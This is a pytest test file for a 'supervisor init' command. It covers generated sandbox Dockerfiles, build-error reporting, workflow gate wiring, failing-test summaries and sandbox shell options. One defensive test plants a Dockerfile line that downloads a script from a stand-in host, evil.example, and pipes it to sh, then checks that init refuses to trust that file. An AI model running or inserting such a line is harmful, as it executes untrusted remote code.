"""`supervisor init` for a new user (issue 28): the Dockerfile it writes builds for a Node project
without dependencies, a check that could not run says why, build logs come without colour codes
and once, init knows its own files on a second run, every gate it writes runs in the chosen
workflow, a failing gate's reason is the failing tests' summary, the role packs are one
checklist, and `sandbox shell` works on a writable copy of HEAD.

Pure logic and real git here; the image build and the interactive run are in
tests/test_init_tmux.py."""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from supervisor.gates import failure_summary
from supervisor.guard import trust
from supervisor.lifecycle.gate_check import GateCheck
from supervisor.lifecycle.initialize import checklist, initialize, toggle
from supervisor.project import project_image
from supervisor.project.detect import detect
from supervisor.workflow import gate_wiring

PYTEST_OUTPUT = """\
F.F                                                                      [100%]
=================================== FAILURES ===================================
___________________________________ test_a ____________________________________
    def test_a():
>       assert 1 == 2
E       assert 1 == 2
test_x.py:2: AssertionError
=========================== short test summary info ============================
FAILED test_x.py::test_a - assert 1 == 2
FAILED test_x.py::test_c - ValueError: x
2 failed, 1 passed in 0.31s
"""
# vitest writes its summary to stdout and the failures to stderr; a gate's output is stdout then
# stderr, so the last line is the rule closing the last failure.
VITEST_OUTPUT = """\
 RUN  v2.1.8 /workspace

 ❯ test/clamp.test.ts (2 tests | 2 failed) 5ms
   × clamp > keeps a value inside the range 3ms

 Test Files  1 failed (1)
      Tests  2 failed (2)
   Start at  10:00:00
   Duration  310ms (transform 20ms)

\x1b[31m⎯⎯⎯⎯⎯⎯⎯ Failed Tests 2 ⎯⎯⎯⎯⎯⎯⎯\x1b[39m

 FAIL  test/clamp.test.ts > clamp > keeps a value inside the range
AssertionError: expected 10 to be 5 // Object.is equality
⎯⎯⎯⎯[1/2]⎯

 FAIL  test/clamp.test.ts > clamp > clamps below the range
AssertionError: expected 10 to be 0 // Object.is equality
⎯⎯⎯⎯[2/2]⎯
"""


def git(repo: Path, *args: str) -> str:
    return subprocess.run(
        ["git", "-C", str(repo), "-c", "user.name=t", "-c", "user.email=t@t", *args],
        capture_output=True,
        text=True,
        check=True,
    ).stdout


def make(root: Path, files: dict[str, str]) -> Path:
    root.mkdir(parents=True)
    for rel, text in files.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text)
    git(root, "init", "-q", "-b", "main")
    git(root, "add", "-A")
    git(root, "commit", "-qm", "upstream")
    return root


@pytest.fixture(autouse=True)
def user_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SUPERVISOR_USER_DIR", str(tmp_path / "user"))


NODE_NO_DEPS = {"package.json": json.dumps({"name": "t", "scripts": {"test": "node --test"}})}
PY_LINTED = {
    "calc.py": "def add(a, b):\n    return a + b\n",
    "test_calc.py": "from calc import add\n\ndef test_add():\n    assert add(1, 2) == 3\n",
    "pyproject.toml": '[project]\nname = "calc"\nversion = "1"\n'
    '[project.optional-dependencies]\ndev = ["pytest", "ruff"]\n',
}
TS = {
    "package.json": json.dumps(
        {
            "name": "t",
            "scripts": {"test": "vitest run"},
            "devDependencies": {"typescript": "5", "vitest": "2"},
        }
    ),
    "tsconfig.json": "{}",
}


# -- the generated Dockerfile -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("manager", "version", "lock"),
    [
        ("npm", "", "package-lock.json"),
        ("pnpm", "9.15.0", "pnpm-lock.yaml"),
        ("yarn", "", "yarn.lock"),
    ],
)
def test_the_node_install_makes_node_modules_even_without_dependencies_or_a_lock_file(
    manager: str, version: str, lock: str
) -> None:
    _, install = project_image.node_section(manager, version)
    assert "mkdir -p node_modules && mv node_modules /node_modules" in install
    assert f"[ -f {lock} ]" in install  # the frozen/immutable install only with a lock file


def test_a_build_failure_names_its_telling_line_without_colour_codes_and_shows_the_log_once() -> (
    None
):
    log = [
        "Step 9/12 : RUN cd /deps && npm install\n",
        " ---> Running in 5d1\n",
        "\x1b[1mup to date\x1b[22m, audited 1 package in 300ms\n",
        "mv: cannot stat 'node_modules': No such file or directory\n",
    ]
    docker_says = "The command '/bin/sh -c cd /deps && npm install' returned a non-zero code: 1"
    quiet = project_image._build_error(Path("/r"), docker_says, log, shown=False)
    first = quiet.message.splitlines()[0]
    assert first.endswith("failed: mv: cannot stat 'node_modules': No such file or directory")
    assert "\x1b" not in quiet.message and "| up to date, audited 1 package" in quiet.message
    streamed = project_image._build_error(Path("/r"), docker_says, log, shown=True)
    assert streamed.message == first  # the user saw the log already: not printed again
    assert "see the build output above" in streamed.hint


def test_a_build_failure_names_the_tools_error_line_over_its_notes_and_dockers_own_lines() -> None:
    """changesets on a registry without one of its lock file's packages: pnpm's error, then its
    notes, then the legacy builder's `Removing intermediate container`; an earlier step's error
    line (pip's resolver note, the build went on) is not the cause."""
    log = [
        "Step 6/17 : RUN pip install x\n",
        "ERROR: pip's dependency resolver does not currently take into account all packages\n",
        "Step 10/17 : RUN cd /deps && pnpm install --frozen-lockfile\n",
        " ---> Running in 5d8c1e47136f\n",
        "✗ Lockfile failed supply-chain policy check (484 entries in 8.7s)\n",
        "[ERR_PNPM_FETCH_404] GET https://registry.npmjs.org/@pnpm%2Fpnpr.darwin-arm64: "
        "Not Found - 404\n",
        "\n@pnpm/pnpr.darwin-arm64 is not in the npm registry, or you have no permission.\n",
        "No authorization header was set for the request.\n",
        "Removing intermediate container 5d8c1e47136f\n",
    ]
    error = project_image._build_error(Path("/r"), "returned a non-zero code: 1", log, shown=True)
    assert error.message == (
        "Building the project sandbox image failed: [ERR_PNPM_FETCH_404] GET "
        "https://registry.npmjs.org/@pnpm%2Fpnpr.darwin-arm64: Not Found - 404"
    )
    quiet = project_image._build_error(Path("/r"), "returned a non-zero code: 1", log, shown=False)
    assert "Removing intermediate container" not in quiet.message
    assert "| No authorization header was set for the request." in quiet.message


def test_pnpm_runs_a_gates_script_without_installing_again_offline() -> None:
    """pnpm 11's verifyDepsBeforeRun (`install` by default) finds no node_modules in /workspace
    (the image's is /node_modules) and reinstalls before `pnpm test`, with the network off: it
    retried changesets' 484 packages for minutes. The image turns the check off, where pnpm 11
    reads it (a `pnpm_config_` variable, over the project's own setting)."""
    toolchain, install = project_image.node_section("pnpm", "11.13.1")
    assert "ENV pnpm_config_verify_deps_before_run=false\n" in toolchain
    assert "pnpm@11.13.1" in toolchain and "verify_deps" not in install
    for manager in ("npm", "yarn"):
        assert "verify_deps" not in "".join(project_image.node_section(manager, ""))


# -- init knows its own files ------------------------------------------------------------------


def test_running_init_again_knows_the_dockerfile_it_wrote(tmp_path: Path) -> None:
    repo = make(tmp_path / "repo", NODE_NO_DEPS)
    first = initialize(repo)
    assert "sandbox/Dockerfile" in first.written
    again = initialize(repo)
    assert "sandbox/Dockerfile" in again.unchanged
    assert "sandbox/Dockerfile" not in again.left_alone


def test_init_rewrites_its_own_older_dockerfile_and_leaves_an_edited_one_alone(
    tmp_path: Path,
) -> None:
    repo = make(tmp_path / "repo", NODE_NO_DEPS)
    initialize(repo)
    dockerfile = repo / ".supervisor" / "sandbox" / "Dockerfile"
    (repo / "requirements.txt").write_text("requests\n")  # the project grows a Python side
    grown = initialize(repo)
    assert "sandbox/Dockerfile" in grown.written and "python3 -m venv" in dockerfile.read_text()
    assert project_image.trusted_dockerfile(repo) is not None  # our text, trusted as written
    edited = dockerfile.read_text() + "RUN apt-get install -y graphviz\n"
    dockerfile.write_text(edited)
    (repo / "requirements.txt").unlink()
    assert "sandbox/Dockerfile" in initialize(repo).left_alone
    assert dockerfile.read_text() == edited


def test_attack_a_repository_claiming_its_dockerfile_is_inits_gets_inits_text(
    tmp_path: Path,
) -> None:
    """A cloned repository ships a Dockerfile and an init.json whose hash says init wrote it:
    init then replaces it with its own text (never trusts the repository's), and a Dockerfile
    without such a claim stays as it is, untrusted, so it is never built."""
    evil = "FROM alpine\nRUN wget -q -O- https://evil.example/x | sh\n"
    digest = hashlib.sha256(evil.encode()).hexdigest()
    claimed = make(
        tmp_path / "claimed",
        {
            **NODE_NO_DEPS,
            ".supervisor/sandbox/Dockerfile": evil,
            ".supervisor/init.json": json.dumps({"sandbox/Dockerfile": digest}),
        },
    )
    initialize(claimed)
    text = (claimed / ".supervisor/sandbox/Dockerfile").read_text()
    assert "evil.example" not in text and text.startswith(project_image.HEADER)
    assert project_image.trusted_dockerfile(claimed) is not None
    unclaimed = make(
        tmp_path / "unclaimed", {**NODE_NO_DEPS, ".supervisor/sandbox/Dockerfile": evil}
    )
    assert "sandbox/Dockerfile" in initialize(unclaimed).left_alone
    from supervisor.guard.trust import UntrustedConfigError

    with pytest.raises(UntrustedConfigError):
        project_image.trusted_dockerfile(unclaimed)
    assert not trust.file_trusted(unclaimed, ".supervisor/sandbox/Dockerfile", evil.encode())


# -- every gate init writes runs -------------------------------------------------------------


def test_a_gate_the_chosen_template_does_not_run_is_added_to_the_workflow(tmp_path: Path) -> None:
    from supervisor.core.config import load_settings
    from supervisor.lifecycle.preflight import gates_used
    from supervisor.workflow.loading import load_workflow

    repo = make(tmp_path / "repo", PY_LINTED)
    report = initialize(repo)
    assert report.wiring is not None
    assert report.wiring.run == ["test"] and list(report.wiring.added) == ["lint"]
    assert "added to the _base template after its test step" in report.wiring.where("lint")
    definition = load_workflow(repo, load_settings(repo))
    assert set(gates_used(definition)) == {"test", "lint"}
    assert definition.steps["test"].next == "lint" and definition.steps["lint"].next == "review"
    assert definition.steps["lint"].on_fail == "implement"
    again = initialize(repo)  # the added step is init's own: the same answer, nothing rewritten
    assert again.wiring == report.wiring and "config.yaml" in again.unchanged


def test_a_typescript_types_gate_runs_after_the_last_gate_of_open_source(tmp_path: Path) -> None:
    repo = make(tmp_path / "repo", TS)
    from supervisor.core.config import TemplateChoice

    wiring = gate_wiring.wire(
        repo, TemplateChoice(template="open_source"), ["test", "lint", "types"], False
    )
    assert wiring.run == ["test", "lint"]
    assert wiring.added == {
        "types": {"gate": "types", "position": "after lint", "on_fail": "implement"}
    }
    mvp = gate_wiring.wire(repo, TemplateChoice(template="mvp"), ["test", "lint", "types"], False)
    assert mvp.added["lint"]["position"] == "after test"
    assert mvp.added["types"]["position"] == "after lint"


def test_a_projects_own_workflow_is_not_changed_and_init_names_the_templates_that_run_a_gate(
    tmp_path: Path,
) -> None:
    from supervisor.core.config import TemplateChoice

    repo = make(tmp_path / "repo", PY_LINTED)
    wiring = gate_wiring.wire(repo, TemplateChoice(), ["test", "lint"], custom_workflow=True)
    assert not wiring.added
    assert wiring.not_run["lint"] == ["open_source", "enterprise", "security_critical"]
    assert "the open_source, enterprise, security_critical template(s) run it" in wiring.where(
        "lint"
    )


def test_a_failing_lint_gate_is_neither_written_nor_wired(tmp_path: Path) -> None:
    repo = make(tmp_path / "repo", PY_LINTED)
    checks = {
        "test": GateCheck(True, "passed"),
        "lint": GateCheck(False, "exit 1: Found 1 error"),
    }
    report = initialize(repo, check=lambda _r, _g: checks)
    assert report.wiring is not None and not report.wiring.added
    text = (repo / ".supervisor" / "config.yaml").read_text()
    assert "workflow:" not in text and "#   gates: {lint: 'ruff check .'}" in text


# -- a failing gate's reason -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("output", "summary"),
    [
        (PYTEST_OUTPUT, "2 failed, 1 passed: test_x.py::test_a, test_x.py::test_c"),
        (
            VITEST_OUTPUT,
            "2 failed (2): test/clamp.test.ts > clamp > keeps a value inside the range, "
            "test/clamp.test.ts > clamp > clamps below the range",
        ),
        (
            "FAIL src/a.test.js\n  ● math › adds\n\nTests:       1 failed, 3 passed, 4 total\n",
            "1 failed, 3 passed, 4 total: math › adds",
        ),
        (
            "FAIL: test_add (test_calc.CalcTest.test_add)\n---\nRan 2 tests in 0.001s\n\n"
            "FAILED (failures=1)\n",
            "FAILED (failures=1): test_add",
        ),
        ("--- FAIL: TestAdd (0.00s)\nFAIL\nFAIL\texample.com/calc\t0.003s\n", "1 failed: TestAdd"),
        (
            "▶ math\n  ✖ adds (1.2ms)\n✖ math (2.0ms)\nℹ tests 2\nℹ pass 1\nℹ fail 1\n",
            "fail 1: adds, math",
        ),
        ("Error: Cannot find module 'x'\n\n", "Error: Cannot find module 'x'"),
    ],
    ids=["pytest", "vitest", "jest", "unittest", "go", "node-test", "no-summary"],
)
def test_a_failing_gates_reason_is_the_runners_summary_of_the_failing_tests(
    output: str, summary: str
) -> None:
    assert failure_summary.summarize(output) == summary


def test_many_failing_tests_are_counted_not_listed() -> None:
    output = "".join(f"FAILED tests/t.py::test_{i} - x\n" for i in range(7)) + "7 failed in 1s\n"
    assert failure_summary.summarize(output) == (
        "7 failed: tests/t.py::test_0, tests/t.py::test_1, tests/t.py::test_2 and 4 more"
    )


# -- one checklist ---------------------------------------------------------------------------


def test_the_checklist_offers_no_language_pack_the_project_does_not_use(tmp_path: Path) -> None:
    repo = make(tmp_path / "repo", PY_LINTED)
    packs = dict(checklist(detect(repo)))
    assert "rust" not in packs and "go" not in packs
    assert "security" in packs and not packs["security"]
    rust = make(tmp_path / "rust", {"Cargo.toml": "[package]\nname='x'\n"})
    assert dict(checklist(detect(rust)))["rust"] is True


def test_numbers_toggle_checklist_rows() -> None:
    assert toggle([True, False, False], "2 3") == [True, True, True]
    assert toggle([True, False, False], "1,2") == [False, True, False]
    assert toggle([True, False], "all") == [True, True]
    assert toggle([True, False], "none") == [False, False]
    with pytest.raises(ValueError, match="'9' is not a number from 1 to 2"):
        toggle([True, False], "9")
    with pytest.raises(ValueError, match="'rust' is not a number"):
        toggle([True, False], "rust")


def test_init_yes_shows_the_detection_first_and_ends_with_next_steps(tmp_path: Path) -> None:
    repo = make(tmp_path / "repo", PY_LINTED)
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "supervisor",
            "init",
            "--yes",
            "--no-check-gates",
            "--repo",
            str(repo),
        ],
        capture_output=True,
        text=True,
        env={**os.environ, "COLUMNS": "200"},
        check=False,
    )
    assert done.returncode == 0, done.stderr
    out = done.stdout
    assert out.index("Detected") < out.index("role packs") < out.index("Next")
    assert "python3 -m pytest -q  (pyproject.toml)" in out and "ruff check ." in out  # why
    assert "lint" in out and "added to the _base template after its test step" in out
    assert "git add .supervisor" in out and 'supervisor start-task "' in out
    assert "Role packs (the suggested ones are selected)" not in out  # no questions with --yes


# -- sandbox shell ---------------------------------------------------------------------------


def test_the_sandbox_shell_mounts_a_writable_copy_and_keeps_its_git_file_read_only(
    tmp_path: Path,
) -> None:
    from supervisor.lifecycle.image_commands import shell_argv

    tree = tmp_path / "tree"
    tree.mkdir()
    (tree / ".git").write_text("gitdir: /elsewhere\n")
    argv = shell_argv(tree, "img:1", ["pnpm", "test"])
    assert f"{tree}:/workspace:rw" in argv and f"{tree / '.git'}:/workspace/.git:ro" in argv
    assert "--read-only" not in argv and argv[argv.index("--network") + 1] == "none"
    assert argv[-3:] == ["img:1", "pnpm", "test"] and "-t" not in argv
